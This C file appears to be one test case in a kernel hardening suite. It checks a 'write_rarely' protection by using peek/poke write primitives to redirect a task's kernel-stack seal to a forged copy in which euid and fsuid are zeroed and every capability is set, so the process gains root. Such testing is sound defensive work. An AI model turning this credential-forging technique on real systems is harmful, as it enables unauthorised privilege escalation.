// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("write_rarely", "stack_seal_table", "write_rarely: write to sealed memory outside a window",
       "The program makes its kernel stack's slot in the table of seals point to a seal "
       "that it has forged in ordinary memory.",
       "The table from stacks to seals is sealed memory.",
       "Its system calls are made with the credentials of root.");

static bool control(void)
{
	return is_ordinary();
}

#define SEAL_SIZE 1024 /* at least */
#define ALL_CAPABILITIES 0x1ffffffffff

/* The marks that the heap sets at the end of start-up: 1792 bytes. */
static uint64_t forge_seal(uint64_t seal)
{
	const uint64_t forged = symbol("marks"), credentials = member("task_seal.credentials");

	for (unsigned int i = 0; i < SEAL_SIZE; i += 8)
		poke(forged + i, peek(seal + i));
	poke32(forged + credentials + member("credentials.euid"), 0);
	poke32(forged + credentials + member("credentials.fsuid"), 0);
	poke(forged + credentials + member("credentials.capability_effective"), ALL_CAPABILITIES);
	return forged;
}

static bool fire(void)
{
	const uint64_t task = own_task(), seals = peek(symbol("kernel_stack_seals"));
	const uint64_t slot =
		(peek(task + member("task.stack_top")) - 1 - peek(symbol("kernel_stack_base"))) /
		65536;

	poke(seals + 8 * slot, forge_seal(peek(task + member("task.seal"))));
	return is_root();
}

static void victim(void)
{
	victim_waits();
}
